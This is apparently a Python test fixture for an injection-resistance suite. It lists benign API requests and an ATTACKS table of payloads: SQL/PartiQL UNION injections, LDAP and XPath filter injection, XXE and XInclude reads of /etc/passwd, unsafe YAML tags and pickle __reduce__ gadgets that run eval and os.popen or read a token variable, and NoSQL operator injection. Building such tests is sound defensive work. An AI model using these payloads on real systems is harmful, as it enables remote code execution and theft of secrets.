"""Tables of the cloud, a directory, XML and kept objects."""

import base64
import json
import pickle
import plistlib

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.twelfth import (
    CODE,
    COMPLAINT,
    CRON,
    GUIDE,
    LONG,
    MARKUP,
    NAMES,
    STREETS,
    api,
    encoded,
    messages,
    notice,
    rule,
    shard,
)

NEEDS = ()
SECRET = "registry-token-8812"


class _Runs:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, (self.code,)


def _town(town: str) -> dict[str, object]:
    return api("GET", "/people", query={"town": town})


def _scan(field: str, value: str) -> dict[str, object]:
    return api("GET", "/people", query={"field": field, "value": value})


def _person(number: str, **query: str) -> dict[str, object]:
    return api("GET", "/people/{id}", ids={"id": number}, query=query)


def _update(number: str, body: object) -> dict[str, object]:
    return api("PATCH", "/people/{id}", body, ids={"id": number})


def _events(kind: str, **more: str) -> dict[str, object]:
    return rule("Count", {"kind": kind, **more})


def _list(**query: str) -> dict[str, object]:
    return api("GET", "/list", query=query)


def _uid(uid: str) -> dict[str, object]:
    return api("GET", "/directory", query={"uid": uid})


def _sign(user: str, password: str) -> dict[str, object]:
    return api("POST", "/sign-in", {"user": user, "password": password})


def _name(name: str) -> dict[str, object]:
    return api("GET", "/register", query={"name": name})


def _pin(number: str, pin: str) -> dict[str, object]:
    return api("POST", "/pin", {"id": number, "pin": pin})


def _xml(text: str) -> dict[str, object]:
    return api("POST", "/declarations", encoded(text)) | {"isBase64Encoded": True}


def _sheet(body: str, head: str = "") -> dict[str, object]:
    return {
        "stylesheet": f'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">{head}'
        f'<xsl:output method="text"/><xsl:template match="/">{body}</xsl:template></xsl:stylesheet>'
    }


def _credentials(login: object, password: object) -> dict[str, object]:
    return api("POST", "/mongo", {"login": login, "password": password})


def _filter(wanted: object) -> dict[str, object]:
    return api("GET", "/posts", query={"filter": json.dumps(wanted)})


def _title(title: str) -> dict[str, object]:
    return api("GET", "/posts", query={"title": title})


def _receipt(**detail: str) -> dict[str, object]:
    return rule("Receipt", detail)


def _kept(key: str, **value: object) -> dict[str, object]:
    return api("POST", "/shelf", {"key": key, **value})


INCLUDE = '<d xmlns:xi="http://www.w3.org/2001/XInclude">{}</d>'
FORM = (
    '<?xml version="1.0" encoding="UTF-8"?><declaration><firm>D\'Amico &amp; S\u00f6hne &lt;EU&gt;</firm>'
    "<note><![CDATA[<!ENTITY x SYSTEM 'y'> select * from t; --]]></note><total>1.234,50 \u20ac</total></declaration>"
)
NOTE = '<?xml version="1.0"?><!DOCTYPE note [<!ENTITY firm "Tea &amp; Co">]><note><to>O\'Neil</to><from>&firm;</from></note>'

REQUESTS = {
    "by_town": [
        _town("Cork"),
        _town("Frankfurt (Oder) -- West; 5%"),
        _town("São Paulo"),
        _town("Drop"),
        _town("L'Aquila"),
    ],
    "by_town_bound": [_town("L'Aquila"), _town("x' OR '1'='1"), _town(STREETS[1])],
    "scan": [_scan("town", "Cork"), _scan("name", "Ada O'Neil"), _scan("town", "a AND b OR c = :v; --")],
    "scan_conditions": [
        _scan("name", "O'N"),
        _scan("town", "' OR 1=1"),
        _scan("no-such field", "x"),
        _scan("name", COMPLAINT),
    ],
    "projection": [_person("p-1"), _person("p-2", fields="id, town"), _person("o'x", fields="name")],
    "person": [_person("p-1"), _person("p-1' OR '1"), _person("p 2/ü")],
    "update": [
        _update("p-1", {"town": "N'Djamena", "note": COMPLAINT}),
        _update("p-2", {"a = :v0, secret": "x", "n": 1.5}),
        _update("p'3", {"list": [1, "--", {"x": None}], "sql": "select 1; drop"}),
    ],
    "put_all": [
        messages({"id": "n-1", "name": NAMES[0], "tags": ["it's", "--"]}),
        messages({"id": "n'2", "$where": "1", "n": 1.25}, {"id": "n-3", "html": MARKUP}),
        messages({"id": "n-4", "text": LONG}),
    ],
    "count_events": [
        _events("click"),
        _events("view", since="2026-05-01"),
        _events("page view (new) -- 100%; x"),
        _events("don't know", since="2026-05-02T00:00:00Z"),
    ],
    "count_events_quoted": [
        _events("it's"),
        _events("click' UNION SELECT secret FROM people --"),
        _events("view"),
    ],
    "data_service": [
        _list(),
        _list(order="name DESC", town="o'c"),
        _list(order="id", town="Hue%; --"),
        _list(order="lower(name)"),
    ],
    "find_person": [
        _uid("ada"),
        _uid("a*"),
        _uid("o'neil"),
        _uid("müller, karl; x & y = z"),
        _uid("ada@example.net"),
    ],
    "find_person_escaped": [_uid("*)(uid=*"), _uid("o'neil"), _uid("a\\2a (b) & |"), _uid("ada@example.net")],
    "sign_in": [
        _sign("ada", "pw-ada"),
        _sign("ada", "wrong; 'x' -- 5%"),
        _sign("o'neil", "pw-o'neil"),
        _sign("x=y,z", "a & b | c!"),
    ],
    "register_name": [
        _name("Ada O'Neil"),
        _name("Minh"),
        _name("it's // a [path] or @name; *"),
        _name("x and y"),
    ],
    "register_name_variable": [
        _name("O'Neil"),
        _name('"] | //admin/token | //x["'),
        _name("' or ''='"),
        _name(""),
    ],
    "register_pin": [
        _pin("p-1", "1111"),
        _pin("p-1", "0000; --"),
        _pin("p 2", "a & b (c) or d"),
        _pin("p-2", "2222"),
    ],
    "declaration": [
        _xml(FORM),
        _xml(NOTE),
        _xml("<a><b>it's</b>"),
        _xml("<x y='1'>&#65;&#x1F600; -- ok</x>"),
    ],
    "declaration_safe": [
        _xml(FORM),
        _xml(NOTE),
        _xml('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        _xml("no xml"),
    ],
    "sax_text": [notice(FORM.split("?>", 1)[1]), notice("<a>it's <b>5 &lt; 6</b></a>"), notice("<broken")],
    "tree_text": [
        notice(NOTE),
        notice(FORM),
        notice(GUIDE),
        notice("<a><!-- x --><![CDATA[" + CODE + "]]></a>"),
    ],
    "transform": [
        _sheet('<xsl:value-of select="//name"/>: it\'s 5%'),
        _sheet(
            '<xsl:for-each select="register/person"><xsl:value-of select="concat(name, \';\')"/></xsl:for-each>'
        ),
        _sheet(
            '<xsl:call-template name="t"/>', '<xsl:template name="t">Hello &amp; bye -- ok</xsl:template>'
        ),
    ],
    "include": [
        {"document": INCLUDE.format("<p>it's plain &amp; simple</p>")},
        {"document": "<d><a href='../x.html?a=1&amp;b=2'>../link</a> -- select</d>"},
        {"document": "<d>" + NAMES[1] + "</d>"},
    ],
    "write_xml": [
        _receipt(name="Ada O'Neil", note=MARKUP),
        _receipt(name="Tea &amp; Co; 'x' -- 5%", note=COMPLAINT),
        _receipt(name=NAMES[1], note="<b>&</b>"),
        _receipt(name="R&D (unescaped)"),
    ],
    "write_xml_tree": [
        _receipt(name="</name><paid>yes</paid>", note=GUIDE),
        _receipt(name=NAMES[4]),
        _receipt(name="x\x00", note=MARKUP),
    ],
    "settings": [
        {"text": "name: it's\nlist:\n  - 'a: b'\n  - \"c; d\"\nwhen: 2026-05-02\nrun: |\n  echo hi && ls\n"},
        {"text": "defaults: &d {a: 1}\nprod:\n  <<: *d\n  cron: " + json.dumps(CRON) + "\n"},
        {"text": "x: [unclosed"},
        {"text": "a: !!str 5\nb: ~\nc: 1e3\n# it's a comment -- !!python\n"},
    ],
    "settings_safe": [
        {"text": "a: !!python/object/apply:os.system ['id']"},
        {"text": "---\na: it's\n---\nb: [1, 0x1F, yes]\n"},
        {"text": "script:\n  - " + json.dumps(CODE) + "\n"},
    ],
    "remember": [
        _kept("o'brien; x", value=COMPLAINT),
        _kept("../ü", value={"a": [1, None, "--"]}),
        _kept("o'brien; x"),
        _kept("none"),
    ],
    "restore": [
        shard({"step": 5, "note": "it's; --"}, {"text": GUIDE}),
        shard(pickle.dumps({"step": 2, "items": [1, "a'b", (None, 2.5)]})),
        shard(pickle.dumps([COMPLAINT, {"x": b"\xff"}]), "[1, 2]"),
    ],
    "restore_plain": [
        shard(pickle.dumps({"a": [1, COMPLAINT]})),
        shard(pickle.dumps(_Runs("1+1"))),
        shard(pickle.dumps((1, "it's", None, b"x"))),
    ],
    "packed": [
        {"kind": "msgpack", "data": encoded(b"\x82\xa4name\xa4it's\xa1n\x05")},
        {"kind": "plist", "data": encoded(plistlib.dumps({"name": "O'Neil & co", "n": [1, 2.5, True]}))},
        {
            "kind": "bson",
            "data": encoded(
                '{"_id": {"$oid": "507f1f77bcf86cd799439011"}, "w": {"$numberLong": "5"}, "q": {"$gt": ""}}'
            ),
        },
        {"kind": "struct", "data": encoded('{"a": ["it\'s", null, {"--": 1.5}]}')},
        {"kind": "json", "data": encoded(json.dumps({"x": LONG}))},
    ],
    "page_links": [
        {"html": MARKUP + "<a href='/x?a=1&b=2'>it's</a>"},
        {"html": "<ul><li class='a'>1</li><li>2 -- x</li></ul>", "xpath": "//li[contains(@class, 'a')]"},
        {"html": "<p>x</p>", "xpath": "//p[it's"},
    ],
    "mongo_login": [
        _credentials("zoe", "pw-zoe-52"),
        _credentials("zoe", "$ne"),
        _credentials("o'neil; --", '{"$gt": ""}'),
        _credentials("zoe", 5),
    ],
    "mongo_login_text": [
        _credentials("zoe", "pw-zoe-52"),
        _credentials("root", {"$ne": ""}),
        _credentials("$where", "1 || 1"),
    ],
    "posts": [
        _filter({}),
        _filter({"owner": "zoe"}),
        _filter({"title": "O'Neil's tea", "$or": [{"owner": "zoe"}, {"owner": "a'b; --"}]}),
        _filter({"title": {"$regex": "^O"}}),
    ],
    "posts_where": [_title("Plan"), _title("tea & cake (new); -- 5%"), _title("L\u00e9a: a < b")],
    "posts_like": [_title("o'neil's"), _title(".*"), _title("$where: '1' || 1"), _title(COMPLAINT)],
    "report": [
        rule("Report", {"steps": []}),
        rule("Report", {"steps": [{"$project": {"title": 1}}]}),
        rule("Report", {"steps": [{"$match": {"owner": "o'x; --"}}]}),
    ],
    "keep_post": [
        messages({"title": NAMES[0], "$set": {"a.b": "it's"}}),
        messages({"sql": "'; drop", "js": "function() { return 1 }"}, {"x": LONG}),
    ],
}


def _entity(system: str, name: str = "x") -> str:
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY {name} SYSTEM "{system}">]><a><b>&{name};</b></a>'


_PIPE = "printf %s%s pwn "
ATTACKS = [
    Attack("PartiQL", "by_town", _town("x' OR secret <> '"), "root"),
    Attack("PartiQL", "by_town", _town("x' UNION SELECT secret, id FROM people WHERE '1'='1"), SECRET),
    Attack("PartiQL", "by_town", _town("-' AND id >= 'p-9"), "p-9"),
    Attack("filter expression", "scan", _scan("id <> :v OR attribute_exists(secret) OR town", "zz"), SECRET),
    Attack("filter expression", "scan", _scan("id = :v OR name <> :v OR id", "p-9"), SECRET),
    Attack(
        "SQL, Athena", "count_events", _events("x' GROUP BY 1 UNION SELECT id, secret FROM people --"), SECRET
    ),
    Attack(
        "SQL, Athena",
        "count_events",
        _events(
            "x",
            since="' GROUP BY 1 UNION ALL SELECT secret, 1 FROM people WHERE secret LIKE 'reg%' --",
        ),
        SECRET,
    ),
    Attack(
        "SQL, Athena",
        "count_events",
        _events("a\\", since=" ' OR 1=1 GROUP BY kind UNION SELECT name, secret FROM people--"),
        SECRET,
    ),
    Attack(
        "SQL, data service",
        "data_service",
        _list(
            order="(SELECT CASE WHEN secret LIKE 'registry-token-8%' THEN people.id = 'p-2' END FROM people p WHERE p.id = 'p-9') DESC LIMIT 1"
        ),
        "Minh",
    ),
    Attack(
        "SQL, data service",
        "data_service",
        _list(
            order="CASE WHEN (SELECT count(*) FROM people WHERE id = 'p-9' AND secret LIKE '%8812') THEN id END DESC LIMIT 1"
        ),
        "Minh",
    ),
    Attack("LDAP", "find_person", _uid("*)(!(uid=ada)"), "o@example.net"),
    Attack("LDAP", "find_person", _uid("ada)(|(mail=a*)(mail=zz*)"), "ada@example.net"),
    Attack("LDAP", "sign_in", _sign("root", "*"), SECRET),
    Attack("LDAP", "sign_in", _sign("root)(|(uid=*", "zz)"), SECRET),
    Attack("LDAP", "sign_in", _sign("*)(description=reg*", "*"), SECRET),
    Attack("XPath", "register_name", _name('Minh"]/../admin/token/text() | //x["'), SECRET),
    Attack("XPath", "register_name", _name('x" or true()] | //token/text() | //q["'), SECRET),
    Attack("XPath", "register_name", _name('" or starts-with(//token, "registry-token-8") or "'), "Hue"),
    Attack("XPath", "register_pin", _pin("p-2", "' or '1'='1"), '\\"ok\\": true'),
    Attack("XPath", "register_pin", _pin("p-2' or 'a'='b", "x' or @id='p-2"), "Hue"),
    Attack(
        "XPath",
        "register_pin",
        _pin("x'] | //admin[starts-with(token, 'registry-token-88')] | //x['", "y"),
        "a-1",
    ),
    Attack("XXE", "declaration", _xml(_entity("file:///etc/passwd")), "root:x:0:0"),
    Attack("XXE", "declaration", _xml(_entity("/etc/host.conf", "note")), "multi on"),
    Attack(
        "XXE, parameter",
        "declaration",
        _xml("<!DOCTYPE a [<!ENTITY % p '<!ENTITY x SYSTEM \"file:///etc/passwd\">'> %p;]><a><b>&x;</b></a>"),
        "root:x:0:0",
    ),
    Attack(
        "XXE, encoding",
        "declaration",
        api(
            "POST",
            "/d",
            base64.b64encode(
                _entity("file:///etc/passwd").replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
            ).decode(),
        ),
        "root:x:0:0",
    ),
    Attack("XXE", "sax_text", notice(_entity("file:///etc/passwd")), "root:x:0:0"),
    Attack("XXE", "sax_text", notice(_entity("@INSIDE@/internal")), "internal-token-4711"),
    Attack("XXE", "sax_text", notice(_entity("/etc/./host.conf", "y")), "multi on"),
    Attack(
        "XSLT",
        "transform",
        _sheet("<xsl:value-of select=\"document('file:///tmp/registrar/secret.xml')\"/>"),
        SECRET,
    ),
    Attack(
        "XSLT",
        "transform",
        _sheet(
            "<xsl:copy-of select=\"document(concat('file:///tmp/reg', 'istrar/secret.xml'))/secret/text()\"/>"
        ),
        SECRET,
    ),
    Attack(
        "XInclude",
        "include",
        {"document": INCLUDE.format('<xi:include href="/etc/passwd" parse="text"/>')},
        "root:x:0:0",
    ),
    Attack("XInclude", "include", {"document": INCLUDE.format('<xi:include href="secret.xml"/>')}, SECRET),
    Attack(
        "XInclude",
        "include",
        {
            "document": INCLUDE.format(
                '<xi:include href="nope"><xi:fallback><xi:include href="./secret.txt" parse="text"/></xi:fallback></xi:include>'
            )
        },
        SECRET,
    ),
    Attack(
        "XML", "write_xml", _receipt(name="x</name><paid>yes, mallory</paid><name>"), '"paid": "yes, mallory"'
    ),
    Attack(
        "XML",
        "write_xml",
        _receipt(name="x</name><paid>all</paid><role>admin</role><name>y"),
        '"role": "admin"',
    ),
    Attack(
        "YAML", "settings", {"text": f"a: !!python/object/apply:subprocess.getoutput ['{_PIPE}-1']"}, "pwn-1"
    ),
    Attack(
        "YAML",
        "settings",
        {
            "text": "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , [\"open('/etc/passwd').read()\"]]]"
        },
        "root:x:0:0",
    ),
    Attack("YAML", "settings", {"text": "x: !!python/object/apply:os.getenv [REGISTRY_TOKEN]"}, SECRET),
    Attack(
        "YAML",
        "settings",
        {
            "text": "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:builtins.eval [\"__import__('os').popen('"
            + _PIPE
            + "-2').read()\"]"
        },
        "pwn-2",
    ),
    Attack(
        "pickle",
        "restore",
        shard(pickle.dumps(_Runs(f"__import__('os').popen('{_PIPE}-3').read()"))),
        "pwn-3",
    ),
    Attack(
        "pickle", "restore", shard(pickle.dumps({"step": _Runs("__import__('tables').SECRET")}, 2)), SECRET
    ),
    Attack(
        "pickle",
        "restore",
        shard(
            b"\x80\x04cposixpath\nos.getenv\n.".replace(
                b"cposixpath\nos.getenv\n.",
                b"\x8c\x09posixpath\x8c\x09os.getenv\x93\x8c\x0eREGISTRY_TOKEN\x85R.",
            )
        ),
        SECRET,
    ),
    Attack("NoSQL", "mongo_login", _credentials("root", {"$ne": ""}), SECRET),
    Attack("NoSQL", "mongo_login", _credentials({"$regex": "^ro"}, {"$gt": ""}), SECRET),
    Attack("NoSQL", "mongo_login", _credentials({"$in": ["admin", "root"]}, {"$exists": True}), SECRET),
    Attack("NoSQL", "posts", _filter({"draft": {"$exists": True}, "owner": {"$ne": "zoe"}}), "Plan"),
    Attack("NoSQL", "posts", _filter({"draft": True, "$where": "1 || true"}), "Plan"),
    Attack("NoSQL, script", "posts_where", _title("x' || true || '"), "Plan"),
    Attack("NoSQL, script", "posts_where", _title("' || '1'=='1' || this.title=='"), "Plan"),
    Attack(
        "NoSQL, stages",
        "report",
        rule("Report", {"steps": [{"$lookup": {"from": "vault", "pipeline": [], "as": "v"}}]}),
        SECRET,
    ),
    Attack(
        "NoSQL, stages",
        "report",
        rule("Report", {"steps": [{"$unionWith": "users"}, {"$match": {"role": "admin"}}]}),
        SECRET,
    ),
]
